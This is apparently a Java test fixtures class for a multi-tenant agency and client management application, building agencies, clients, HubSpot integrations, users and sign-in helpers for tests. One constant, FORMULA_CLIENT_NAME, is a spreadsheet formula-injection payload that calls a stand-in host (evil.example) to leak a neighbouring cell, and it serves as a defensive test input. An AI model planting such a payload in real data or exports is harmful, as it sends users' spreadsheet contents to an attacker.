package io.plumbline;

import io.plumbline.integration.AuthType;
import io.plumbline.integration.Category;
import io.plumbline.integration.Criticality;
import io.plumbline.integration.IntegrationDetails;
import io.plumbline.integration.IntegrationDraft;
import io.plumbline.integration.IntegrationService;
import io.plumbline.security.PlumblineUser;
import io.plumbline.tenancy.AgencyId;
import io.plumbline.tenancy.AgencyService;
import io.plumbline.tenancy.ClientDetails;
import io.plumbline.tenancy.ClientDraft;
import io.plumbline.tenancy.ClientId;
import io.plumbline.tenancy.ClientService;
import io.plumbline.tenancy.CurrentTenant;
import io.plumbline.tenancy.Industry;
import io.plumbline.tenancy.NewUser;
import io.plumbline.tenancy.Role;
import io.plumbline.tenancy.TenantScope;
import io.plumbline.tenancy.UserId;
import io.plumbline.tenancy.UserService;
import java.time.ZoneId;
import java.util.UUID;
import java.util.function.Supplier;
import org.springframework.boot.test.context.TestComponent;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.context.SecurityContextHolder;

/**
 * Intent-revealing test data; every agency, client and e-mail is unique so tests never
 * collide.
 */
@TestComponent
public class Fixtures {

    public static final String PASSWORD = "correct horse battery";

    private final AgencyService agencies;

    private final ClientService clients;

    private final UserService users;

    private final IntegrationService integrations;

    Fixtures(AgencyService agencies, ClientService clients, UserService users, IntegrationService integrations) {
        this.agencies = agencies;
        this.clients = clients;
        this.users = users;
        this.integrations = integrations;
    }

    public record TestAgency(AgencyId id, String name, String ownerEmail, UserId owner) {
        public TestScope scope() {
            return new TestScope(TenantScope.agency(id));
        }
    }

    /** Keeps test code readable: {@code agency.scope().run(...)}. */
    public record TestScope(TenantScope scope) {
        public <T> T call(Supplier<T> work) {
            return CurrentTenant.callAs(scope, work);
        }

        public void run(Runnable work) {
            CurrentTenant.runAs(scope, work);
        }
    }

    public record TestUser(UserId id, String email, Role role, TenantScope scope) {
        public PlumblineUser principal() {
            return new PlumblineUser(id, email, email, role, scope, false);
        }
    }

    /**
     * A client name that a spreadsheet would run as a formula, sending the cell next to
     * it to another site.
     */
    public static final String FORMULA_CLIENT_NAME = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Soylent\")";

    public static String unique(String prefix) {
        return prefix + "-" + UUID.randomUUID().toString().substring(0, 8);
    }

    public TestAgency anAgency() {
        String name = unique("Agency");
        String email = unique("owner") + "@agency.test";
        var created = agencies.createAgency(name, email, "Owner of " + name, PASSWORD);
        return new TestAgency(created.agency(), name, email, created.owner());
    }

    public ClientDetails aClient(TestAgency agency) {
        return agency.scope()
            .call(() -> clients
                .create(new ClientDraft(unique("Client"), null, Industry.SAAS, ZoneId.of("Europe/Berlin"), "#123456")));
    }

    public IntegrationDetails anIntegration(TestAgency agency, ClientDetails client) {
        String key = unique("crm").toLowerCase();
        return agency.scope()
            .call(() -> integrations.register(new IntegrationDraft(client.id(), key, "HubSpot for " + client.name(),
                    Category.CRM, "HubSpot", "https://api.hubapi.com", "v3", AuthType.OAUTH2, null, null, null,
                    Criticality.HIGH, null, null)));
    }

    public TestUser aUser(TestAgency agency, Role role) {
        return aUser(agency, role, null);
    }

    public TestUser aClientUser(TestAgency agency, ClientDetails client, Role role) {
        return aUser(agency, role, client.id());
    }

    private TestUser aUser(TestAgency agency, Role role, ClientId client) {
        String email = unique(role.name().toLowerCase()) + "@user.test";
        UserId id = agency.scope()
            .call(() -> users.createWithPassword(new NewUser(email, null, role, client), PASSWORD));
        return new TestUser(id, email, role, new TenantScope(agency.id(), client));
    }

    public TestUser ownerOf(TestAgency agency) {
        return new TestUser(agency.owner(), agency.ownerEmail(), Role.OWNER, TenantScope.agency(agency.id()));
    }

    /** Signs the user in on this thread, as the login form would. */
    public static void signInAs(TestUser user) {
        PlumblineUser principal = user.principal();
        SecurityContextHolder.getContext()
            .setAuthentication(
                    UsernamePasswordAuthenticationToken.authenticated(principal, null, principal.getAuthorities()));
    }

    public static void signOut() {
        SecurityContextHolder.clearContext();
    }

}
